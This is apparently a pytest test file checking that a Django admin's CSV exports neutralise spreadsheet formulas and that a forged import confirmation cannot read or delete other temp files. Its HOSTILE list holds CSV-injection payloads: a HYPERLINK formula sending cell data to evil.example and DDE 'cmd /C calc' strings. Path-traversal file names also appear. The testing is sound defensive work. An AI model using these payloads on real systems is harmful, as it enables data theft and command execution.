"""Exports and imports (issue 16, findings 7 and 8).

Every cell of every admin export that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
reaches the spreadsheet with a leading apostrophe (shown as text, never run as a formula). The
import's confirmation step reads only a file this server saved under a random name: naming any
other file of the server's temp folder reads nothing and deletes nothing.
"""

from __future__ import annotations

import csv
import io
import os
import tempfile
from unittest import mock
from uuid import uuid4

import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from import_export.admin import ExportMixin, ImportMixin

from infra.ratelimit import RateLimitedExportMixin
from infra.spreadsheets import (
    FORMULA_STARTS,
    ImportTempStorage,
    SpreadsheetSafeCSV,
    SpreadsheetSafeResource,
)
from plans.models import Exercise
from recovery.audit import audit
from recovery.models import AuditEvent, Role, TreatmentType
from tests.conftest import make_user
from tests.support import (
    IMPORT,
    PROCESS_IMPORT,
    confirm,
    csv_upload,
    dry_run,
    exercise,
    messages_of,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exporting_admins():
    return [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]


def export_url(model_admin) -> str:
    opts = model_admin.model._meta
    return f"/admin/{opts.app_label}/{opts.model_name}/export/"


def cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def assert_safe(rows: list[list[str]]) -> None:
    unsafe = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert unsafe == []


def test_every_admin_export_uses_the_safe_resource_and_format():
    admins = exporting_admins()
    assert {a.model._meta.label_lower for a in admins} == {"plans.exercise", "recovery.auditevent"}
    for model_admin in admins:
        assert model_admin.get_export_formats() == [SpreadsheetSafeCSV], model_admin
        for resource in model_admin.get_export_resource_classes(None):
            assert issubclass(resource, SpreadsheetSafeResource), resource
    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, ImportMixin):
            assert model_admin.get_import_formats() == [SpreadsheetSafeCSV]


def test_a_treatment_type_named_like_a_formula_is_text_in_the_exercise_export(superuser):
    """The probe's example: the contraindicated_for column was written unescaped. The export
    still imports back unchanged (the apostrophe is taken off again)."""
    evil = TreatmentType.objects.get(name="Lumbar fusion")
    evil.name = HOSTILE[0]
    evil.save()
    exercise("Pelvic tilt").contraindicated_for.add(evil)
    response = superuser.post("/admin/plans/exercise/export/", {"format": "0", "resource": "0"})
    rows = cells(response)
    column = rows[0].index("contraindicated_for")
    assert rows[1][column] == "'" + HOSTILE[0]
    assert_safe(rows)

    again = dry_run(superuser, SimpleUploadedFile("export.csv", response.content))
    result = again.context["result"]
    assert not result.has_validation_errors()
    assert result.totals["skip"] == 1


def test_audit_export_neutralises_tabs_and_carriage_returns_too(superuser):
    for number, name in enumerate(HOSTILE):
        user = make_user(f"u{number}", Role.PATIENT, "U", "N")
        user.username = name  # usernames are checked by forms, not by the database
        user.save()
        audit("login", actor=user, outcome="ok")
    rows = cells(superuser.post("/admin/recovery/auditevent/export/", {"format": "0"}))
    actors = {row[rows[0].index("actor")] for row in rows[1:]} - {"root"}
    assert actors == {"'" + name for name in HOSTILE}
    assert_safe(rows)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_column_of_every_export_is_neutralised(superuser, ana, hostile, monkeypatch):
    """Whatever a field or its widget renders, a hostile value in any column comes out safe."""
    monkeypatch.setattr(RateLimitedExportMixin, "export_limit", 1000)  # 15 exports here
    exercise("Pelvic tilt").contraindicated_for.add(TreatmentType.objects.first())
    AuditEvent.objects.create(action="login", actor=ana.user, outcome="ok", ip="10.0.0.1")
    checked = 0
    for model_admin in exporting_admins():
        for resource_class in model_admin.get_export_resource_classes(None):
            columns = [field.column_name for field in resource_class().get_export_fields()]
            for column in columns:
                original = resource_class.export_field

                def export_field(self, field, instance, column=column, original=original, **kw):
                    if field.column_name == column:
                        return hostile
                    return original(self, field, instance, **kw)

                with mock.patch.object(resource_class, "export_field", export_field):
                    rows = cells(
                        superuser.post(export_url(model_admin), {"format": "0", "resource": "0"})
                    )
                index = rows[0].index(column)
                assert len(rows) > 1
                assert {row[index] for row in rows[1:]} == {"'" + hostile}, column
                assert_safe(rows)
                checked += 1
    # The exercise library's 11 columns (7, and the default dose's 4 since issue 22) and the
    # audit log's 8.
    assert checked == 11 + 8


# --- the import's confirmation step ---------------------------------------------------------------


@pytest.fixture
def victim():
    """A file of the server's temp folder that is not an import: a valid library CSV, even."""
    path = os.path.join(tempfile.gettempdir(), f"victim-{uuid4().hex}.csv")
    content = (
        "name,category,stage,active,instructions,cautions,contraindicated_for\n"
        "Stolen,core,1,yes,Read from elsewhere.,,\n"
    )
    with open(path, "w") as file:
        file.write(content)
    yield path, content
    if os.path.exists(path):
        os.remove(path)


def forged_confirm(client, name: str):
    return client.post(
        PROCESS_IMPORT,
        {
            "import_file_name": name,
            "original_file_name": "library.csv",
            "format": "0",
            "resource": "0",
            "confirm": "Confirm import",
        },
        follow=True,
    )


@pytest.mark.parametrize("how", ["name", "absolute", "traversal", "hex-in-temp-root"])
def test_a_confirmation_naming_another_file_reads_and_deletes_nothing(staff, victim, how):
    path, content = victim
    name = {
        "name": os.path.basename(path),
        "absolute": path,
        "traversal": "../" + os.path.basename(path),
        "hex-in-temp-root": None,
    }[how]
    if name is None:  # a name of the right shape, but for a file outside the import folder
        name = uuid4().hex
        os.rename(path, os.path.join(tempfile.gettempdir(), name))
        path = os.path.join(tempfile.gettempdir(), name)
    try:
        response = forged_confirm(staff, name)
        assert not Exercise.objects.exists()  # not read
        assert os.path.exists(path)  # not deleted
        with open(path) as file:
            assert file.read() == content
        assert response.status_code == 200
        assert any("Nothing was imported" in m for m in messages_of(response))
    finally:
        if os.path.exists(path):
            os.remove(path)


def test_an_import_waits_in_its_own_folder_under_a_random_name_and_is_removed(staff):
    upload = csv_upload([["Cat stretch", "flexibility", "1", "yes", "Slowly.", "", ""]])
    response = dry_run(staff, upload)
    name = response.context["confirm_form"].initial["import_file_name"]
    assert ImportTempStorage.NAME.fullmatch(name)
    waiting = os.path.join(ImportTempStorage.folder(), name)
    assert os.path.exists(waiting)
    assert os.stat(ImportTempStorage.folder()).st_mode & 0o077 == 0
    assert os.stat(waiting).st_mode & 0o077 == 0
    done = confirm(staff, response)
    assert any("Import finished: 1 new" in m for m in messages_of(done))
    assert not os.path.exists(waiting)
    # Confirming twice (a double click) imports nothing more and explains.
    again = confirm(staff, response)
    assert any("no longer waiting" in m for m in messages_of(again))
    assert again.request["PATH_INFO"] == IMPORT
    assert Exercise.objects.count() == 1
